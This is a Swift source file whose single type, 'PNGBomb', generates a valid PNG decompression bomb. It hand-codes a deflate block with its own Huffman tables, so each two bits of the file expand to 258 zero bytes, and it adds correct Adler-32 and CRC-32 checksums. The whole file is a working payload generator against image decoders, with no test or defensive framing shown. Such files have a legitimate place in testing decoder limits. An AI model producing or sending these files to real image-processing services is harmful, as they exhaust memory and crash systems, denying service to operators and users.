/// A black picture of one bit a pixel, valid to the last byte: 258 bytes of it are two bits in the file.
struct PNGBomb {
  let width: Int
  let height: Int

  var bytes: [UInt8] {
    let header = Self.word(width) + Self.word(height) + [1, 0, 0, 0, 0]
    return [0x89] + Array("PNG\r\n\u{1A}\n".utf8) + Self.chunk("IHDR", header) + Self.chunk("IDAT", zlib())
      + Self.chunk("IEND", [])
  }

  /// Each row is a filter byte (none) and its pixels: nothing but zeros (RFC 1950).
  private func zlib() -> [UInt8] {
    let zeros = height * (1 + (width + 7) / 8)
    // Adler-32 of zeros: the one sum stays 1, the other counts them.
    let check = (zeros % 65521) << 16 | 1
    return [0x78, 0xDA] + Self.deflated(zeros: zeros) + Self.word(check)
  }

  /// One block of codes made for it (RFC 1951, 3.2.7): 0 for 'as 258 bytes ago … by one', 10 a zero, 11 the end.
  private static func deflated(zeros: Int) -> [UInt8] {
    var bits = BitWriter()
    bits.append(1, count: 1)  // the last block
    bits.append(2, count: 2)  // with codes of its own
    bits.append(29, count: 5)  // 286 literals and lengths
    bits.append(0, count: 5)  // one distance
    bits.append(14, count: 4)  // 18 lengths of code lengths, in the order of the standard:
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
      bits.append([18: 1, 1: 2, 2: 2][symbol] ?? 0, count: 3)
    }
    // Codes: 18 = 0, 1 = 10, 2 = 11 (written from the left, and the file is filled from the right).
    func one() { bits.append(0b01, count: 2) }
    func two() { bits.append(0b11, count: 2) }
    func none(_ count: Int) {
      bits.append(0, count: 1)
      bits.append(count - 11, count: 7)
    }
    two()  // literal 0
    none(138)
    none(117)  // literals 1…255
    two()  // the end, 256
    none(28)  // lengths 257…284
    one()  // length 285: 258 bytes
    one()  // distance 0: one byte back
    var rest = zeros
    func literal() {
      bits.append(0b01, count: 2)
      rest -= 1
    }
    literal()
    while rest >= 258 {
      bits.append(0, count: 2)
      rest -= 258
    }
    while rest > 0 { literal() }
    bits.append(0b11, count: 2)
    return bits.finished()
  }

  private static func word(_ value: Int) -> [UInt8] {
    [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: value >> $0) }
  }

  private static func chunk(_ name: String, _ content: [UInt8]) -> [UInt8] {
    let checked = Array(name.utf8) + content
    return word(content.count) + checked + word(Int(crc(checked)))
  }

  /// CRC-32 as PNG has it (ISO 3309).
  private static func crc(_ bytes: [UInt8]) -> UInt32 {
    var crc = UInt32.max
    for byte in bytes {
      crc ^= UInt32(byte)
      for _ in 0..<8 { crc = crc & 1 == 1 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1 }
    }
    return ~crc
  }
}

/// Bits in deflate's order: each byte is filled from its lowest bit.
private struct BitWriter {
  private var bytes: [UInt8] = []
  private var pending = 0
  private var pendingCount = 0

  mutating func append(_ value: Int, count: Int) {
    pending |= value << pendingCount
    pendingCount += count
    while pendingCount >= 8 {
      bytes.append(UInt8(pending & 0xFF))
      pending >>= 8
      pendingCount -= 8
    }
  }

  mutating func finished() -> [UInt8] {
    if pendingCount > 0 { append(0, count: 8 - pendingCount) }
    return bytes
  }
}
